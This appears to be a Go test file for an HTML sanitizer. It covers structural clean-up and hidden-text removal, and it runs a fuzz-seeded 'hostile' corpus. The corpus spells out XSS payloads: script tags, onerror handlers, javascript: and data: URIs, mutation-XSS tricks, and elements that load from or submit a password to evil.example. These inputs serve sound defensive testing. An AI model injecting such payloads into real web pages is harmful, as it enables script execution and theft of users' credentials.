package sanitize

import (
	"regexp"
	"strings"
	"testing"

	"github.com/applyforus/applyforus/ports"
	"github.com/applyforus/applyforus/ports/porttest"
)

func TestContract(t *testing.T) {
	t.Parallel()
	porttest.HTMLSanitizer(t, func(*testing.T) ports.HTMLSanitizer { return New() })
}

func TestClean(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ in, html, text string }{
		"structure stays":      {`<p>We <b>build</b> <i>kites</i>.</p><ul><li>One</li><li>Two</li></ul>`, `<p>We <strong>build</strong> <em>kites</em>.</p><ul><li>One</li><li>Two</li></ul>`, "We build kites.\n\n- One\n- Two"},
		"headings step down":   {`<h1>About</h1><h2>Role</h2><h4>Pay</h4>`, `<h3>About</h3><h3>Role</h3><h4>Pay</h4>`, "About\n\nRole\n\nPay"},
		"divs are paragraphs":  {`<div>One</div><div>Two</div>`, `<p>One</p><p>Two</p>`, "One\n\nTwo"},
		"nested divs unfold":   {`<div><div>One</div><p>Two</p></div>`, "<p>One</p><p>Two</p>", "One\n\nTwo"},
		"styles go":            {`<p style="color:red" class="x" onclick="y()">Hi</p>`, `<p>Hi</p>`, "Hi"},
		"links are guarded":    {`<a href="https://a.example/x">x</a>`, `<a href="https://a.example/x" rel="nofollow noreferrer noopener" target="_blank">x</a>`, "x"},
		"breaks are lines":     {`One<br>Two`, `One<br/>Two`, "One\nTwo"},
		"empty paragraphs go":  {`<p>&nbsp;</p><p>One</p><p><br></p>`, `<p>One</p>`, "One"},
		"entities stay":        {`<p>R&amp;D &lt;team&gt;</p>`, `<p>R&amp;D &lt;team&gt;</p>`, "R&D <team>"},
		"tables":               {`<table><tr><td>A</td><td>B</td></tr></table>`, `<table><tbody><tr><td>A</td><td>B</td></tr></tbody></table>`, "A\tB"},
		"words do not collide": {`<p>One<span>two</span><section>three</section></p>`, ``, ""},
		"nothing":              {``, ``, ``},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			html, text := New().Clean(c.in)
			if squeeze(html) != squeeze(c.html) && c.html != "" {
				t.Errorf("html\n got %q\nwant %q", html, c.html)
			}
			if text != c.text && c.text != "" {
				t.Errorf("text\n got %q\nwant %q", text, c.text)
			}
			if name == "words do not collide" && !strings.Contains(text, "two\n\nthree") {
				t.Errorf("text %q", text)
			}
		})
	}
}

func squeeze(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\n", ""), "> <", "><")
}

func TestHiddenTextIsDropped(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		`<p style="display:none">SECRET</p>`, `<span style="DISPLAY : none !important">SECRET</span>`, `<div hidden>SECRET</div>`,
		`<p style="font-size:0">SECRET</p>`, `<p style="font-size:1px;">SECRET</p>`, `<p style="opacity:0">SECRET</p>`,
		`<p style="visibility:hidden">SECRET</p>`, `<span style="position:absolute;left:-9999px">SECRET</span>`,
		`<span style="color:#fff">SECRET</span>`, `<font color="white">SECRET</font>`, `<div style="height:0;overflow:hidden">SECRET</div>`,
		`<div aria-hidden="true"><p>SECRET</p></div>`, `<template>SECRET</template>`, `<!-- SECRET -->`, `<noscript>SECRET</noscript>`,
		`<div style="text-indent:-9999px">SECRET</div>`, `<span style="color:rgba(0,0,0,0)">SECRET</span>`,
		`<div style="clip:rect(0 0 0 0)">SECRET</div>`, `<textarea>SECRET</textarea>`, `<svg><text>SECRET</text></svg>`,
	} {
		html, text := New().Clean("<p>Seen</p>" + in)
		if strings.Contains(html+text, "SECRET") || !strings.Contains(text, "Seen") {
			t.Errorf("%s\n gave %q, %q", in, html, text)
		}
	}
	for _, in := range []string{`<p style="line-height:1">Seen</p>`, `<p style="font-size:10px">Seen</p>`, `<p style="min-height:1.5em">Seen</p>`, `<p style="margin-left:-10px">Seen</p>`, `<b style="color:#fff;background:#000">Seen</b>`, `<p style="opacity:0.9">Seen</p>`} {
		if _, text := New().Clean(in); text != "Seen" {
			t.Errorf("%s: visible text was dropped", in)
		}
	}
	if _, text := New().Clean("a\U000E0041\u200b\u202eb"); text != "ab" {
		t.Errorf("invisible characters stay: %q", text)
	}
}

var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" jAvAsCrIpT&colon;alert(1)">x</a>`, `<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/local">x</a>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x"></object>`, `<embed src=x>`,
	`<style>@import 'https://evil.example';</style>`, `<p style="background:url(https://evil.example)">x</p>`, `<link rel=stylesheet href=x>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example">`, `<form action="https://evil.example"><input name=password></form>`,
	`<math><mi//xlink:href="data:x,<script>alert(4)</script>">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<p id="x" name="y" hx-get="/evil" hx-trigger="load" data-x="1">x</p>`, `<a href="https://a.example" onclick="x()" target="_self" rel="opener" style="position:fixed">x</a>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1)//<</script>`, `"><script>alert(1)</script>`, `<xss onpointerenter=alert(1)>x`, `<p/onmouseover=alert(1)>x`,
	`<plaintext><script>alert(1)</script>`, `<xmp><script>alert(1)</script></xmp>`, `<details open ontoggle=alert(1)>x</details>`, `<button formaction=javascript:x>x</button>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>", "<img \x00src=x onerror=alert(1)>", `<template><script>alert(1)</script></template>`, `<select><option><script>alert(1)</script>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `<p>unclosed <b>bold <i>both</p> after`, `<li>orphan`, `</p></div>`, `<table><p>in table</p><tr><td>x`, strings.Repeat("<div>", 5000) + "deep" + strings.Repeat("</div>", 5000),
	strings.Repeat("<b>", 3000) + "deep", "\xff\xfe<p>bad bytes\xc3</p>", `<a href="https://user:pass@a.example/?a=1&b=2#c">x</a>`, `<a href="mailto:a@b.example">x</a>`, `<p>a</p>text<p>b</p>`, `<pre> kept
  lines</pre>`, `<ul><li><p>para</p></li><li><div>div</div></li></ul>`, `<p>one<br><br>two</p>`, `<h1><div>x</div></h1>`, `<strong><p>x</p><p>y</p></strong>`, `<a href="https://a.example"><div>block</div></a>`,
	`<font size=7>x</font>`, `<dl><dt>a</dt><dd>b</dd></dl>`, `&nbsp;&nbsp;x`, `a &amp;lt; b`,
}

var (
	allowedTag = regexp.MustCompile(`^<(?:/?(?:p|br/?|hr/?|ul|ol|li|h[3-6]|strong|em|code|pre|blockquote|table|thead|tbody|tr|th|td|a)|br/|hr/|a href="(?:https?://|mailto:)[^"<>]*"(?: rel="[a-z ]+")?(?: target="_blank")?)>$`)
	anyTag     = regexp.MustCompile(`<[^>]*>`)
)

func check(t *testing.T, in string) {
	t.Helper()
	s := New()
	html, text := s.Clean(in)
	for _, tag := range anyTag.FindAllString(html, -1) {
		if !allowedTag.MatchString(tag) {
			t.Errorf("%.80q let %q through", in, tag)
		}
	}
	again, textAgain := s.Clean(html)
	if again != html {
		t.Errorf("cleaning %.200q twice differs\n once %.300q\ntwice %.300q", in, html, again)
	}
	if textAgain != text {
		t.Errorf("text of %.200q changes\n once %.300q\ntwice %.300q", in, text, textAgain)
	}
}

func TestHostileCorpus(t *testing.T) {
	t.Parallel()
	for _, in := range hostile {
		check(t, in)
	}
}

func TestLargeInputIsCut(t *testing.T) {
	t.Parallel()
	html, _ := New().Clean(strings.Repeat("<p>é</p>", maxInput/4))
	if len(html) > maxInput {
		t.Errorf("%d bytes", len(html))
	}
}

func FuzzClean(f *testing.F) {
	for _, in := range hostile {
		if len(in) < 1000 {
			f.Add(in)
		}
	}
	f.Fuzz(func(t *testing.T, in string) { check(t, in) })
}
